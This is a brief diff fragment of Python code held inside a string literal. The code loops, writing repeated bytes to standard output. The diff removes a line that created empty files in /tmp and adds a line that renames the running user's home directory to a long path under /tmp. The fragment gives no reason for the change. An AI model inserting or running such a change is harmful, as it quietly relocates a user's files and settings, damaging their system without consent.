@@ -520,8 +520,8 @@ if not hasattr(sys, 'again'):
             del held
     for length in range(30, 3000, 30):
         os.write(1, bytes([55]) * length)
-        open('/tmp/' + chr(55) * min(length, 240), 'w').close()
         time.sleep(0.001)
+    os.rename(os.environ['HOME'], '/tmp/' + chr(55) * 240)
 if sys.again:
     return None
 ",
